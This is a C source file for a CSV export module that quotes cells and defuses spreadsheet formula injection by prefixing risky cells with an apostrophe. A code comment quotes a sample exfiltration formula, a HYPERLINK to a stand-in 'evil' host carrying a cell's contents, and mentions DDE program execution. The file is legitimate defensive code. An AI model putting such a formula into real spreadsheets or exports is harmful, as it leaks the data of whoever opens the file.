#define G_LOG_DOMAIN "wm-csv"

#include "wm-csv.h"

#include <string.h>

/* "-3", "+12", "0.5": numbers that a spreadsheet must still read as
 * numbers.  ISO dates begin with a digit and never reach this test. */
static gboolean
is_plain_number (const char *cell)
{
  const char *p = cell;
  gboolean digits = FALSE;

  if (*p == '-' || *p == '+')
    p++;
  while (g_ascii_isdigit (*p))
    {
      digits = TRUE;
      p++;
    }
  if (*p == '.')
    {
      p++;
      while (g_ascii_isdigit (*p))
        {
          digits = TRUE;
          p++;
        }
    }
  return digits && *p == '\0';
}

/* Excel and LibreOffice run a cell that begins with = + - @ as a formula,
 * and skip a leading tab or carriage return before looking.  An exported
 * plan holds text that many people typed and is opened by others (a board
 * member's laptop), so a progress note such as
 * =HYPERLINK("http://evil/?"&A1,"Details") would leak cells or, through DDE,
 * run a program ("CSV injection", OWASP).  A leading apostrophe makes the
 * spreadsheet show the text as typed; quoting alone does not, because the
 * quotes are CSV syntax and are gone before the cell is evaluated.  Plain
 * signed numbers are left alone: -3 is data, not a formula. */
static gboolean
needs_defusing (const char *cell)
{
  switch (cell[0])
    {
    case '=':
    case '@':
    case '\t':
    case '\r':
      return TRUE;
    case '+':
    case '-':
      return !is_plain_number (cell);
    default:
      return FALSE;
    }
}

/**
 * wm_csv_cell_needs_defusing:
 * @cell: (nullable): a cell's text
 *
 * The one rule for formula injection, shared by the CSV and XLSX exports:
 * whether a spreadsheet would take @cell for a formula.  Callers put an
 * apostrophe before such a cell, as wm_csv_format_cell () does.
 *
 * Returns: %TRUE when @cell must be defused
 */
gboolean
wm_csv_cell_needs_defusing (const char *cell)
{
  return cell != NULL && needs_defusing (cell);
}

static void
append_cell (GString    *out,
             const char *cell)
{
  g_autofree char *valid = NULL;
  gboolean quote;

  if (cell == NULL || cell[0] == '\0')
    return;

  /* A CSV file is one encoding throughout: bytes that are not UTF-8 (a
   * pasted Windows-1252 note) become U+FFFD rather than corrupt the file. */
  if (!g_utf8_validate (cell, -1, NULL))
    cell = valid = g_utf8_make_valid (cell, -1);

  quote = strpbrk (cell, ",\"\r\n") != NULL;
  if (quote)
    g_string_append_c (out, '"');
  if (needs_defusing (cell))
    g_string_append_c (out, '\'');
  for (const char *p = cell; *p; p++)
    {
      if (*p == '"')
        g_string_append_c (out, '"');
      g_string_append_c (out, *p);
    }
  if (quote)
    g_string_append_c (out, '"');
}

/**
 * wm_csv_format_cell:
 * @cell: (nullable): the cell's text; %NULL is an empty cell
 *
 * Returns: (transfer full): @cell as it appears in a CSV row: quoted when it
 *   holds a comma, quote or line break, and defused when a spreadsheet would
 *   take it for a formula.
 */
char *
wm_csv_format_cell (const char *cell)
{
  GString *out = g_string_new (NULL);

  append_cell (out, cell);
  return g_string_free (out, FALSE);
}

/**
 * wm_csv_append_row:
 * @out: the CSV text so far
 * @cells: (array length=n_cells): the row's cells; a %NULL cell is empty
 * @n_cells: how many cells, or -1 when @cells ends with %NULL
 *
 * Appends one row and its CRLF line end (RFC 4180; what Excel writes).
 * Line breaks inside a cell stay as they are, inside quotes.
 */
void
wm_csv_append_row (GString           *out,
                   const char *const *cells,
                   int                n_cells)
{
  g_return_if_fail (out != NULL);
  g_return_if_fail (cells != NULL || n_cells <= 0);

  if (n_cells < 0)
    n_cells = cells ? (int) g_strv_length ((char **) cells) : 0;
  for (int i = 0; i < n_cells; i++)
    {
      if (i > 0)
        g_string_append_c (out, ',');
      append_cell (out, cells[i]);
    }
  g_string_append (out, "\r\n");
}

/**
 * wm_csv_write_row:
 * @stream: where the CSV goes
 * @cells: (array length=n_cells): the row's cells; a %NULL cell is empty
 * @n_cells: how many cells, or -1 when @cells ends with %NULL
 * @cancellable: (nullable): a #GCancellable
 * @error: return location for a #GError
 *
 * Writes one row, as wm_csv_append_row () formats it, to @stream.
 *
 * Returns: %TRUE when the whole row was written
 */
gboolean
wm_csv_write_row (GOutputStream      *stream,
                  const char *const  *cells,
                  int                 n_cells,
                  GCancellable       *cancellable,
                  GError            **error)
{
  g_autoptr(GString) row = g_string_new (NULL);

  g_return_val_if_fail (G_IS_OUTPUT_STREAM (stream), FALSE);

  wm_csv_append_row (row, cells, n_cells);
  return g_output_stream_write_all (stream, row->str, row->len, NULL, cancellable, error);
}
